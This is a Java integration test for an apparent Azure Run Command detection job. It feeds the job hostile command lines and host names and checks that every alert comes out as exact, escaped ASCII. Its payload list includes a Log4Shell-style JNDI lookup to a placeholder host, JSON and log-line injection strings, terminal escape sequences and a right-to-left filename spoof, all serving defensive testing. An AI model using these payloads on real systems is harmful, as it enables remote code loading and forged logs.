package io.github.rcdetect;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.github.rcdetect.config.JobConfig;
import io.github.rcdetect.parse.ParserLimits;
import io.github.rcdetect.testing.HugeLines;
import io.github.rcdetect.testing.OutputLines;
import io.github.rcdetect.testing.Records;
import io.github.rcdetect.testing.TestClusters;

import org.apache.flink.test.junit5.MiniClusterExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.TimeUnit;

/**
 * The real bounded job (bin/detect's code, file sinks included) on the MiniCluster over input built to hurt it:
 * attacker-controlled command lines and host names holding every kind of line break, control character and
 * JSON-looking text, strings up to the limit, invalid UTF-8, a 100 MB line and 100,000-deep documents. Checked on
 * the bytes of the output files.
 */
@Timeout(value = 3, unit = TimeUnit.MINUTES)
class HostileInputITCase {

    @RegisterExtension
    static final MiniClusterExtension CLUSTER = TestClusters.extensionWithSlots(2);

    /** Writes input JSON the way a lenient producer may: non-ASCII raw as UTF-8, only what JSON demands escaped. */
    private static final ObjectMapper RAW_WRITER = new ObjectMapper();

    private static final String C0_CONTROLS = controls(0x00, 0x1f);
    private static final String C1_CONTROLS = controls(0x80, 0x9f);

    /** Attacker-controlled texts; each becomes the command line of a Windows and a Linux Run Command child. */
    static final List<String> HOSTILE = List.of(
            "cmd /c echo one\ntwo",
            "cmd /c echo one\rtwo\r\n",
            "line\u2028separator\u2029paragraph\u0085next-line",
            "nul\u0000in the middle",
            "all C0: " + C0_CONTROLS,
            "del\u007f and C1: " + C1_CONTROLS,
            "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \b\b\b",
            "\"}, {\"rule\":{\"id\":\"R9\"},\"event\":{\"kind\":\"alert\"}}",
            "\"}\n{\"@timestamp\":\"2026-03-10T10:00:00.000Z\",\"rule\":{\"id\":\"R1\"}}",
            "back\\slash \\\" \\u0041 \\n",
            "${jndi:ldap://198.51.100.1/a} ${env:HOME} %n %s {}",
            "\uFEFFbom \u202Egpj.exe \u200B zero width",
            "utf-8: é ü ß 中文 עברית \uD83D\uDE00 \uFFFD \uFFFF",
            "lone surrogates \uD800 and \uDFFF",
            "2026-03-10 10:00:00,000 WARN  LogSink - dead letter {\"forged\":true}",
            // At the string limit exactly: the longest text a record may carry.
            "x".repeat(ParserLimits.DEFAULT_MAX_STRING_LENGTH),
            "\u2028".repeat(200_000),
            "é".repeat(300_000));

    @TempDir
    Path directory;

    private record Output(List<String> alertLines, List<String> deadLetterLines, RunSummary summary) {}

    private Output run(Path activity, Path process) throws Exception {
        Path alerts = directory.resolve("out/alerts.ndjson");
        Path deadLetters = directory.resolve("out/dead-letters.ndjson");
        RunSummary summary = BoundedRun.run(JobConfig.fromArgs(
                "--activity", activity.toString(),
                "--process", process.toString(),
                "--alerts", alerts.toString(),
                "--dead-letter", deadLetters.toString()));
        return new Output(asciiLines(alerts), asciiLines(deadLetters), summary);
    }

    /** The lines of an output file, after checking it holds nothing but printable ASCII and newlines. */
    private static List<String> asciiLines(Path file) throws IOException {
        byte[] bytes = Files.readAllBytes(file);
        for (int i = 0; i < bytes.length; i++) {
            int b = bytes[i] & 0xFF;
            assertThat(b == '\n' || (b >= 0x20 && b <= 0x7e))
                    .as("byte 0x%02X at offset %d of %s", b, i, file.getFileName())
                    .isTrue();
        }
        List<String> lines = new ArrayList<>();
        int start = 0;
        for (int i = 0; i < bytes.length; i++) {
            if (bytes[i] == '\n') {
                lines.add(new String(bytes, start, i - start, StandardCharsets.US_ASCII));
                start = i + 1;
            }
        }
        assertThat(start).as("the file ends with a newline").isEqualTo(bytes.length);
        return lines;
    }

    private static String host(String os, int i, String text) {
        // The VM name is a segment of the resourceId, so it cannot hold a '/'; a '.' would end the guest's first DNS
        // label (docs/spec.md, section 9), which is the key, not the whole name.
        String hostile = text.length() > 200 ? text.substring(0, 200) : text;
        return os + i + "-" + hostile.replace('/', '_').replace('.', '_');
    }

    @Test
    void hostileTextReachesEveryAlertExactlyAndOnlyAsOneAsciiLine() throws Exception {
        ByteArrayOutputStream activity = new ByteArrayOutputStream();
        ByteArrayOutputStream process = new ByteArrayOutputStream();
        Map<String, String> commandLineByHost = new HashMap<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            String text = HOSTILE.get(i);
            String windows = host("win", i, text);
            String linux = host("lnx", i, text);
            line(activity, Records.runCommand(Records.at(i * 300), windows, "c-win-" + i, "Start"));
            line(process, Records.windowsChild(Records.at(i * 300 + 5), windows, "cmd.exe", text));
            line(activity, Records.runCommand(Records.at(i * 300 + 100), linux, "c-lnx-" + i, "Start"));
            line(process, Records.linuxExec(Records.at(i * 300 + 105), linux, "sh", text));
            commandLineByHost.put(windows.toLowerCase(Locale.ROOT), text);
            commandLineByHost.put(linux.toLowerCase(Locale.ROOT), text);
        }
        // One character over the string limit: a dead letter, not a truncated command line.
        line(
                process,
                Records.windowsChild(
                        Records.at(9_000),
                        "win-over",
                        "cmd.exe",
                        "y".repeat(ParserLimits.DEFAULT_MAX_STRING_LENGTH + 1)));
        Output output = run(write("activity.ndjson", activity), write("process.ndjson", process));

        assertThat(output.summary().alerts().get("R1")).isEqualTo(2L * HOSTILE.size());
        assertThat(output.summary().alerts().get("R2")).isEqualTo(2L * HOSTILE.size());
        assertThat(output.alertLines()).hasSize(4 * HOSTILE.size());
        Map<String, Integer> alertsByHost = new HashMap<>();
        for (String line : output.alertLines()) {
            ObjectNode alert = OutputLines.parseOneAsciiLine(line);
            // host.name is the host key, which docs/spec.md defines lower-cased.
            String host = alert.at("/host/name").textValue();
            assertThat(commandLineByHost)
                    .as("alert for an unknown host %s", OutputLines.clip(host))
                    .containsKey(host);
            String expected = commandLineByHost.get(host);
            JsonNode commandLine = alert.at("/process/command_line");
            if (alert.at("/rule/id").asText().equals("R1")) {
                assertThat(commandLine.size()).isEqualTo(1);
                assertThat(commandLine.get(0).textValue()).isEqualTo(expected);
            } else {
                assertThat(commandLine.textValue()).isEqualTo(expected);
            }
            alertsByHost.merge(host, 1, Integer::sum);
        }
        assertThat(alertsByHost)
                .hasSize(2 * HOSTILE.size())
                .allSatisfy((host, count) -> assertThat(count).isEqualTo(2));

        assertThat(output.deadLetterLines()).hasSize(1);
        JsonNode overLimit =
                OutputLines.parseOneAsciiLine(output.deadLetterLines().get(0));
        assertThat(overLimit.at("/error/type").asText()).isEqualTo("limit_exceeded");
        assertThat(overLimit.at("/error/message").asText())
                .startsWith("String value length (1048577) exceeds the maximum allowed (1048576");
    }

    @Test
    void invalidUtf8InACommandLineIsADeadLetterWithTheExactBytesAndTheRestStillAlerts() throws Exception {
        ByteArrayOutputStream activity = new ByteArrayOutputStream();
        ByteArrayOutputStream process = new ByteArrayOutputStream();
        line(activity, Records.runCommand(Records.at(0), "win-utf8", "c1", "Start"));
        line(process, Records.windowsChild(Records.at(5), "win-utf8", "whoami.exe", "whoami"));
        List<byte[]> invalid = new ArrayList<>();
        for (byte[] bad : List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAE}, new byte[] {
            (byte) 0xED, (byte) 0xA0, (byte) 0x80
        })) {
            String marker = "\u0001MARK\u0001";
            byte[] record = raw(Records.windowsChild(Records.at(6), "win-utf8", "cmd.exe", "cmd /c echo " + marker));
            byte[] withBad = replace(record, raw(marker), bad);
            invalid.add(withBad);
            process.write(withBad);
            process.write('\n');
        }
        Output output = run(write("activity.ndjson", activity), write("process.ndjson", process));

        assertThat(output.alertLines()).hasSize(2);
        for (String line : output.alertLines()) {
            assertThat(OutputLines.parseOneAsciiLine(line)
                            .at("/process/command_line")
                            .toString())
                    .contains("whoami");
        }
        assertThat(output.deadLetterLines()).hasSize(invalid.size());
        for (int i = 0; i < invalid.size(); i++) {
            JsonNode deadLetter =
                    OutputLines.parseOneAsciiLine(output.deadLetterLines().get(i));
            assertThat(deadLetter.at("/error/type").asText()).isEqualTo("invalid_json");
            assertThat(deadLetter.at("/error/message").asText()).startsWith("not valid UTF-8: byte ");
            assertThat(deadLetter.at("/origin/line").asLong()).isEqualTo(i + 2);
            assertThat(deadLetter.at("/original_encoding").asText()).isEqualTo("base64");
            assertThat(Base64.getDecoder().decode(deadLetter.at("/original").asText()))
                    .isEqualTo(invalid.get(i));
        }
    }

    @Test
    void hugeAndDeepRecordsAreDeadLettersWhileTheRecordsAroundThemStillAlert() throws Exception {
        Path activity = directory.resolve("activity.ndjson");
        Path process = directory.resolve("process.ndjson");
        long hugeLength;
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(activity), 1 << 16)) {
            line(out, Records.runCommand(Records.at(0), "win-big", "c1", "Start"));
            text(out, HugeLines.deepArrayRecord());
            line(out, Records.runCommand(Records.at(200), "lnx-big", "c2", "Start"));
        }
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(process), 1 << 16)) {
            line(out, Records.windowsChild(Records.at(5), "win-big", "whoami.exe", "whoami /all"));
            hugeLength = HugeLines.writeHugeRecord(out, HugeLines.HUNDRED_MB);
            out.write('\n');
            text(out, HugeLines.deepArrayRecord());
            text(out, HugeLines.deepObjectRecord());
            line(out, Records.linuxExec(Records.at(205), "lnx-big", "id", "id"));
        }
        long started = System.nanoTime();
        Output output = run(activity, process);
        long millis = (System.nanoTime() - started) / 1_000_000;
        System.out.printf(
                "HostileInputITCase: bounded run over a 100 MB line and 100,000-deep records in %d ms%n", millis);

        assertThat(output.summary().alerts().get("R1")).isEqualTo(2L);
        assertThat(output.summary().alerts().get("R2")).isEqualTo(2L);
        assertThat(output.alertLines()).hasSize(4);
        List<String> deadLetters = new ArrayList<>();
        for (String line : output.deadLetterLines()) {
            JsonNode deadLetter = OutputLines.parseOneAsciiLine(line);
            assertThat(deadLetter.at("/error/type").asText()).isEqualTo("limit_exceeded");
            assertThat(deadLetter.at("/original_truncated").asBoolean()).isTrue();
            deadLetters.add(deadLetter.at("/origin/stream").asText() + ":"
                    + deadLetter.at("/origin/line").asLong() + ":"
                    + deadLetter.at("/original_bytes").asLong());
        }
        assertThat(deadLetters)
                .containsExactly(
                        "activity:2:" + HugeLines.deepArrayRecord().length(),
                        "process:2:" + hugeLength,
                        "process:3:" + HugeLines.deepArrayRecord().length(),
                        "process:4:" + HugeLines.deepObjectRecord().length());
        assertThat(output.summary().seconds()).as("seconds the job ran").isLessThan(30);
    }

    private Path write(String name, ByteArrayOutputStream content) throws IOException {
        Path file = directory.resolve(name);
        Files.write(file, content.toByteArray());
        return file;
    }

    private static void line(OutputStream out, ObjectNode record) throws IOException {
        out.write(raw(record));
        out.write('\n');
    }

    private static void text(OutputStream out, String json) throws IOException {
        out.write(json.getBytes(StandardCharsets.UTF_8));
        out.write('\n');
    }

    /** UTF-8 JSON with non-ASCII raw; a lone surrogate, which UTF-8 cannot carry, as the JSON escape. */
    private static byte[] raw(ObjectNode record) throws IOException {
        String json = RAW_WRITER.writeValueAsString(record);
        StringBuilder text = new StringBuilder(json.length());
        for (int i = 0; i < json.length(); i++) {
            char c = json.charAt(i);
            boolean paired = Character.isHighSurrogate(c)
                            && i + 1 < json.length()
                            && Character.isLowSurrogate(json.charAt(i + 1))
                    || Character.isLowSurrogate(c) && i > 0 && Character.isHighSurrogate(json.charAt(i - 1));
            text.append(Character.isSurrogate(c) && !paired ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] raw(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** {@code bytes} with the JSON escape form of {@code marker} (as the writer wrote it) replaced by {@code by}. */
    private static byte[] replace(byte[] bytes, byte[] marker, byte[] by) {
        byte[] escaped = "\\u0001MARK\\u0001".getBytes(StandardCharsets.US_ASCII);
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        int at = text.indexOf(new String(escaped, StandardCharsets.ISO_8859_1));
        assertThat(at).as("marker in the record").isNotNegative();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, at);
        out.writeBytes(by);
        out.write(bytes, at + escaped.length, bytes.length - at - escaped.length);
        return out.toByteArray();
    }

    private static String controls(int from, int to) {
        StringBuilder text = new StringBuilder();
        for (int c = from; c <= to; c++) {
            text.append((char) c);
        }
        return text.toString();
    }
}
